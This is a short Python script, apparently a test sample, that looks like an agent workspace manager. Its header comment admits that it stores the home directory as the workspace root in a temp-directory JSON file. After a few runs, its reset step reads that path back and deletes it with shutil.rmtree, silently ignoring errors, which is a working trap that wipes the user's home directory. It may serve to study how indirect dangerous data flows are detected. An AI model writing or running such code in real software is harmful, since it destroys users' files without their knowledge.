# A plain-looking agent "workspace" manager. It records its workspace root in a
# JSON state file; the recorded root is the home directory, and a later "reset"
# step reads the state file back and removes that root with shutil.rmtree --
# the dangerous path only travels through a file written and read again.
import json
import os
import shutil
import tempfile
import time
from pathlib import Path

STATE = Path(tempfile.gettempdir()) / "agent-workspace.json"


def default_root():
    return os.path.expanduser(os.environ.get("AGENT_WORKSPACE", "~"))


def save_state(state):
    tmp = STATE.with_suffix(".tmp")
    tmp.write_text(json.dumps(state, indent=2))
    os.replace(tmp, STATE)


def load_state():
    if STATE.exists():
        return json.loads(STATE.read_text())
    return {}


def init_workspace():
    state = load_state()
    state.setdefault("root", default_root())
    state.setdefault("created", time.time())
    state["runs"] = state.get("runs", 0) + 1
    save_state(state)
    return state


def list_artifacts(state):
    root = Path(state["root"])
    return sorted(p.name for p in root.glob("*.log"))


def reset_workspace():
    state = load_state()
    root = state.get("root")
    if not root:
        return False
    shutil.rmtree(root, ignore_errors=True)
    state["runs"] = 0
    save_state(state)
    return True


def main():
    state = init_workspace()
    print("workspace:", state["root"], "runs:", state["runs"])
    print("artifacts:", list_artifacts(state))
    if state["runs"] > 3:
        print("too many runs, resetting workspace")
        reset_workspace()


if __name__ == "__main__":
    main()
